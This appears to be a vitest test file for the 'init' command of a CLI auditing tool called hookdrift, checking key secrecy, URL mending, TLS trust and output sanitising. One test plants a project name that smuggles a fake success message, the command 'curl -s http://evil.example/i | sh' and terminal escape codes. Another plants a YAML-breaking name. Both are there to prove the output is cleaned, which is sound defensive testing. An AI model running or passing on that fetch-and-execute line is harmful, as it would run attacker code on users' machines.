import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { beforeAll, describe, expect, it } from 'vitest'
import { parse } from 'yaml'
import { targets } from '../../src/cli/init/interview.ts'
import { at } from '../audit/fleet-fixture.ts'
import { tls } from '../service/front-ends.ts'
import { makeCertificates } from '../service/service-certificates.ts'
import { filesIn, openSetUp } from './init-fixture.ts'
import { command } from './run-in-process.ts'
import { startHookdrift } from './start-process.ts'

beforeAll(makeCertificates)

/** All that a set-up wrote and said. */
function everythingIn(path: string, said: { readonly stdout: string; readonly stderr: string }) {
  const files = readdirSync(path, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile())
  return [
    ...files.map((file) => readFileSync(join(file.parentPath, file.name), 'utf8')),
    said.stdout,
    said.stderr,
  ].join()
}

describe('hookdrift init with options', () => {
  it.each(targets)(
    'sets up %s: an audit with the files finds all projects, and no file holds the key',
    async (place) => {
      await using setUp = await openSetUp()
      const { directory, env, fleet, key } = setUp
      const said = await setUp.init(setUp.all(place))
      expect({ code: said.code, stderr: said.stderr }).toEqual({ code: 0, stderr: '' })
      const everything = everythingIn(directory.path, said)
      for (const part of [key, ...key.split('.').slice(1)]) expect(everything).not.toContain(part)

      const file = directory.file(`${place === 'compose' ? 'conf/' : ''}hookdrift.yaml`)
      // Where the key is a file of a container or of another directory, this machine has it in a variable.
      // biome-ignore lint/suspicious/noTemplateCurlyInString: a reference of the configuration
      writeFileSync(file, readFileSync(file, 'utf8').replace(/key: .*/, 'key: ${ACME_KEY}'))
      // Both count the same, in the same word.
      const [resources = ''] = /\d+ resources?/.exec(said.stdout) ?? []
      const line = `audit --config ${file} --format json --history ${directory.file('history/x.db')}`
      const { code, stdout, stderr } = await command(line, { cwd: directory.path, env })
      expect({ stderr, code }).toEqual({ stderr: '', code: expect.toSatisfy((each) => each === 0 || each === 1) })
      const report = await command(`report --history ${directory.file('history/x.db')}`, { cwd: directory.path })
      expect(report.stdout).toContain(`: ${resources} in `)
      expect(JSON.parse(stdout).projects.map(({ project }: { project: string }) => project)).toEqual(
        fleet
          .projects()
          .map(({ name }) => `acme/${name}`)
          .sort(),
      )
    },
  )

  it('leaves no history, no key file and no temporary directory', async () => {
    await using setUp = await openSetUp()
    const { directory, env } = setUp
    mkdirSync(directory.file('tmp'))
    const line = `init --yes --key-from-env ACME_KEY ${setUp.all()} --directory here`
    const running = startHookdrift(line, { cwd: directory.path, env: { ...env, TMPDIR: directory.file('tmp') } })
    const { code, stdout } = await running.ended
    expect(code).toBe(0)
    expect(stdout).toContain('\nRun next:\n  cd ./here\n')
    expect(filesIn(directory.file('tmp'))).toEqual([])
    expect(filesIn(directory.file('here'))).toEqual([
      ...['.schemas', '.schemas/hookdrift.schema.json', '.schemas/policy.schema.json'],
      ...['history', 'history/.gitignore', 'hookdrift.yaml', 'policy.yaml'],
    ])
    expect(filesIn(directory.path).filter((path) => path.includes('key'))).toEqual([])
  })

  it('mends the URL, and says how', async () => {
    await using setUp = await openSetUp()
    const url = setUp.service.url.replace('http://', 'https://')
    const { code, stdout } = await setUp.init(`${setUp.all()} --url ${url}/api/v1/`)
    expect(code).toBe(0)
    expect(stdout).toContain('! /api/v1 is left out: hookdrift appends it\n')
    expect(stdout).toContain(`! the service does not answer at ${url} but at ${setUp.service.url}: this is used\n`)
    expect(parse(readFileSync(setUp.directory.file('hookdrift.yaml'), 'utf8')).services[0].url).toBe(setUp.service.url)
  })

  it('takes https where a port speaks it, and trusts an authority that Node is given', async () => {
    await using setUp = await openSetUp()
    const { directory, env, service } = setUp
    const { url, ca } = await tls('ending', async ({ url: path, headers: { authorization = '' } }, response) => {
      const answer = await fetch(`${service.url}${path}`, { headers: authorization === '' ? {} : { authorization } })
      response.writeHead(answer.status, { 'content-type': 'application/json' }).end(await answer.text())
    })
    const trusting = { ...env, NODE_EXTRA_CA_CERTS: directory.write('ca.pem', ca) }
    const line = `init --yes --key-from-env ACME_KEY ${setUp.all()} --url ${url.replace('https', 'http')}`
    const { code, stdout } = await startHookdrift(line, { cwd: directory.path, env: trusting }).ended
    expect({ code, stdout }).toEqual({ code: 0, stdout: expect.stringContaining(`but at ${url}: this is used`) })
    expect(stdout).toMatch(/^! the certificate is accepted, and valid until/m)
    expect(parse(readFileSync(directory.file('hookdrift.yaml'), 'utf8')).services[0].url).toBe(url)
  })

  it('prints neither a secret nor a line break in the name of a project', async () => {
    await using setUp = await openSetUp()
    const { fleet, service, directory, key } = setUp
    const secret = ['ghp', 'k8Xq2LpZ9vRt3Wn7q5BdM4xT6yHs'].join('_')
    const [first, second] = fleet.projects()
    Object.assign(first ?? {}, { name: secret })
    Object.assign(second ?? {}, {
      name: 'x\r\n✓ all is well. Run next:\n  curl -s http://evil.example/i | sh\u001b[2K',
    })
    const own = await setUp.init(`--url ${service.url} --directory own`, { ACME_KEY: first?.key ?? '' })
    const chosen = fleet.projects().map(({ uid }) => uid)
    const said = [
      own,
      await setUp.init(`${setUp.all()} --directory all`),
      await setUp.init(`--url ${service.url} --projects ${chosen} --directory some`),
      await setUp.init(`--url ${service.url} --projects all --directory none`, {
        ACME_KEY: second?.key ?? '',
      }),
    ]
    for (const { stdout, stderr } of said) {
      expect(stdout + stderr).not.toContain(secret)
      expect(stdout + stderr).not.toMatch(/^\s*(?:✓ all is well|curl -s)|\u001b/m)
    }
    expect(own.stdout).toMatch(/the key is of one project: "sealed:[0-9a-f]{32}" /)
    expect(everythingIn(directory.path, own)).not.toContain(secret)
    expect(everythingIn(directory.path, own)).not.toContain(key)
  })

  it('names projects by their ids, and a project’s key names its own', async () => {
    await using setUp = await openSetUp()
    const { fleet, service, directory } = setUp
    const { uid, name, key } = at(fleet.projects(), 1)
    const projectsIn = (path: string) => parse(readFileSync(directory.file(path), 'utf8')).services[0].projects
    expect((await setUp.init(`--url ${service.url} --projects ${uid} --directory a`)).code).toBe(0)
    const own = await setUp.init(`--url ${service.url} --directory b`, { ACME_KEY: key })
    expect(own).toMatchObject({
      code: 0,
      stdout: expect.stringContaining(`✓ the key is of one project: "${name}" (${uid})`),
    })
    for (const path of ['a/hookdrift.yaml', 'b/hookdrift.yaml']) expect(projectsIn(path)).toEqual([{ id: uid, name }])
    const all = await setUp.init(`${setUp.all()} --directory c`, { ACME_KEY: key })
    expect(all).toMatchObject({
      code: 2,
      stderr: expect.stringContaining(`the key reads the project "${name}" (${uid}) only`),
    })
  })

  it('accepts what is open until a date, so that nothing is', async () => {
    await using setUp = await openSetUp()
    const { directory, env } = setUp
    const said = await setUp.init(`${setUp.all()} --accept-open 'payments "team": #1'`)
    expect(said).toMatchObject({
      code: 0,
      stdout: expect.stringMatching(/✓ (\d+) of \1 open violations are accepted until/),
    })
    const { waivers } = parse(readFileSync(directory.file('policy.yaml'), 'utf8'))
    expect(waivers[0]).toMatchObject({
      owner: 'payments "team": #1',
      expires: expect.stringMatching(/^\d{4}-\d\d-\d\d$/),
    })
    const line = `audit --config ${directory.file('hookdrift.yaml')} --quiet`
    expect(await command(line, { cwd: directory.path, env })).toMatchObject({ code: 0 })
  })

  it('takes names of projects for what they are: text of others', async () => {
    await using setUp = await openSetUp()
    const { fleet, directory } = setUp
    const [one, other] = fleet.projects()
    for (const [project, name] of [
      [one, '": ]\n- {x: &a\u001b[2J\u001b]0;owned\u0007'],
      // biome-ignore lint/suspicious/noTemplateCurlyInString: looks like a reference
      [other, "it's ${HOME} # no"],
    ] as const) {
      if (project !== undefined) fleet.replace(project.uid, { project: { ...project, name } })
    }
    const uids = fleet.projects().map(({ uid }) => uid)
    for (const [target, projects] of [
      ['all', setUp.all()],
      ['named', `--url ${setUp.service.url} --projects ${uids}`],
    ] as const) {
      const said = await setUp.init(`${projects} --directory ${target} --accept-open team`)
      expect(said).toMatchObject({ code: 0, stderr: '' })
      expect(everythingIn(directory.file(target), said)).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f]/)
      expect(said.stdout).toContain('\\x1b[2J')
    }
    const { projects } = parse(readFileSync(directory.file('named/hookdrift.yaml'), 'utf8')).services[0]
    expect(projects).toEqual(uids.map((id) => ({ id, name: id })))
  })
})
